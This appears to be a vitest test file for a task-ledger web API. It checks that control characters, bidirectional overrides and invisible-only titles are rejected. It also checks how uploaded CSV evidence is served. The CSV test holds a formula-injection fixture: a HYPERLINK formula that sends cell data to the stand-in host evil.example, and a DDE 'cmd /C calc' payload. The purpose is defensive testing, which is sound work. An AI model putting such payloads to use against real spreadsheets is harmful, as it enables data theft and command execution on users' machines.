import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from '../support/databases.ts';
import { answer, createTestApp, json, TestClock, type TestApp, type ErrorBody } from '../support/harness.ts';
import { buildTask, buildUnit, buildUser, signIn, type SignedIn } from '../support/factories.ts';
import { multipart } from '../support/multipart.ts';


const NOW = new Date('2024-05-10T02:00:00.000Z');

// Text input is refused at the schema layer, the same on both databases: PostgreSQL cannot store U+0000 in text and
// answered 500; SQLite stored it. Control characters other than tab, newline and carriage return never belong in
// the text of a ledger, and bidirectional overrides make a title read differently from what it is.
const CONTROLS = ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085'];
const BIDI = ['\u202a', '\u202e', '\u2066', '\u2069'];

describe.each(DIALECTS)('text input hygiene (%s)', (dialect) => {
  let t: TestApp;
  let supervisor: SignedIn;
  let liaison: SignedIn;
  let programmeId: string;
  let taskId: string;

  beforeAll(async () => {
    t = await createTestApp(dialect, { clock: new TestClock(NOW) });
    const unit = await buildUnit(t.ctx);
    supervisor = await signIn(t.app, await buildUser(t.ctx, { roles: ['supervisor'] }));
    liaison = await signIn(t.app, await buildUser(t.ctx, { roles: ['liaison'], unitId: unit.id }));
    const p = await t.app.inject({ method: 'POST', url: '/api/v1/programmes', headers: supervisor.headers, payload: { title: '方案' } });
    programmeId = answer('POST /api/v1/programmes', p).id;
    taskId = (await buildTask(t.ctx, { programmeId, supervisorIds: [], state: 'signed', leadUnitId: unit.id, cadence: { kind: 'monthly' }, signedAt: '2024-03-10T02:00:00.000Z', dueDate: '2024-12-31' })).id;
  });
  afterAll(async () => t.close());

  const expect400 = (res: { statusCode: number; body: string }, field: string) => {
    expect({ field, status: res.statusCode, body: res.body }).toMatchObject({ field, status: 400 });
    const body = json<ErrorBody>(res as never);
    expect(body.error.field).toBe(field);
    expect(body.error.code).toBe('invalid_request');
  };

  it('refuses NUL and other control characters in a task title, report text, display name, search and sign-in', async () => {
    for (const c of CONTROLS) {
      expect400(await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title: `任务${c}标题` } }), 'body.title');
      expect400(await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-04', progress: 10, text: `完成${c}` } }), 'body.text');
      expect400(await t.app.inject({ method: 'PATCH', url: '/api/v1/me', headers: liaison.headers, payload: { displayName: `王${c}` } }), 'body.displayName');
      expect400(await t.app.inject({ method: 'GET', url: `/api/v1/tasks?q=${encodeURIComponent(`a${c}`)}`, headers: liaison.headers }), 'querystring.q');
      expect400(await t.app.inject({ method: 'GET', url: `/api/v1/documents?q=${encodeURIComponent(`a${c}`)}`, headers: liaison.headers }), 'querystring.q');
      expect400(await t.app.inject({ method: 'POST', url: '/api/v1/session', payload: { username: `admin${c}`, password: 'whatever1' } }), 'body.username');
    }
    const message = json<ErrorBody>(await t.app.inject({ method: 'POST', url: '/api/v1/session', payload: { username: 'a\u0000', password: 'whatever1' } })).error.message;
    expect(message).toMatch(/^body\.username must not contain control characters/);
  });

  it('refuses bidirectional override characters in titles and report text', async () => {
    for (const c of BIDI) {
      expect400(await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title: `abc${c}fdp.exe` } }), 'body.title');
      expect400(await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-04', progress: 10, text: `完成${c}` } }), 'body.text');
      expect400(await t.app.inject({ method: 'POST', url: '/api/v1/programmes', headers: supervisor.headers, payload: { title: `方案${c}` } }), 'body.title');
    }
  });

  it('keeps tab, newline and carriage return in report text', async () => {
    const res = await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-03', progress: 10, text: '一、完成情况\r\n\t1. 已开工' } });
    expect(res.statusCode).toBe(201);
    expect(answer('POST /api/v1/tasks/:id/reports', res).text).toBe('一、完成情况\r\n\t1. 已开工');
  });

  it('refuses numbers, arrays and objects as titles instead of coercing them', async () => {
    for (const title of [12345, ['任务'], { zh: '任务' }, true]) {
      expect400(await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title } }), 'body.title');
      expect400(await t.app.inject({ method: 'POST', url: '/api/v1/programmes', headers: supervisor.headers, payload: { title } }), 'body.title');
    }
  });

  it('refuses titles without a visible character (zero-width and blank characters only)', async () => {
    for (const title of ['\u200b', '\u200b\u200c\u200d', '\ufeff \u2060', '\u3000\u200b']) {
      const task = await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title } });
      expect({ title, status: task.statusCode, code: json<ErrorBody>(task).error.code }).toEqual({ title, status: 400, code: 'invalid_title' });
      const programme = await t.app.inject({ method: 'POST', url: '/api/v1/programmes', headers: supervisor.headers, payload: { title } });
      expect({ title, status: programme.statusCode, code: json<ErrorBody>(programme).error.code }).toEqual({ title, status: 400, code: 'invalid_title' });
    }
    const area = answer('POST /api/v1/programmes/:id/tasks', await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title: '领域' } }));
    const milestone = await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${area.id}/milestones`, headers: supervisor.headers, payload: { title: '\u200b', dueDate: '2024-06-30' } });
    expect(json<ErrorBody>(milestone).error.code).toBe('invalid_title');
    // Zero-width joiners inside a real title are kept: they are part of some scripts' spelling.
    const kept = await t.app.inject({ method: 'POST', url: `/api/v1/programmes/${programmeId}/tasks`, headers: supervisor.headers, payload: { title: '推进\u200d数字化' } });
    expect(kept.statusCode).toBe(201);
  });

  it('serves CSV evidence only as an attachment, with a warning that formula cells are not neutralised', async () => {
    const report = answer('POST /api/v1/tasks/:id/reports', await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-05', progress: 10, text: '见附件' } }));
    const csv = '项目,金额\n=HYPERLINK("http://evil.example/?"&A1,"点此"),100\n+cmd|\' /C calc\'!A0,1\n';
    const body = multipart({ filename: '台账.csv', content: csv });
    const up = await t.app.inject({ method: 'POST', url: `/api/v1/reports/${report.id}/evidence`, headers: { ...liaison.headers, ...body.headers }, payload: body.payload });
    expect(up.statusCode).toBe(201);
    const evidence = answer('POST /api/v1/reports/:id/evidence', up).items[0]!;
    const dl = await t.app.inject({ method: 'GET', url: `/api/v1/evidence/${evidence.id}/download`, headers: supervisor.headers });
    expect(dl.statusCode).toBe(200);
    expect(dl.headers['content-disposition']).toMatch(/^attachment;/);
    expect(dl.headers['x-luoshi-content-warning']).toMatch(/formula/);
    // Evidence stays byte for byte what was uploaded: its hash is the proof.
    expect(dl.body).toBe(csv);
  });
});
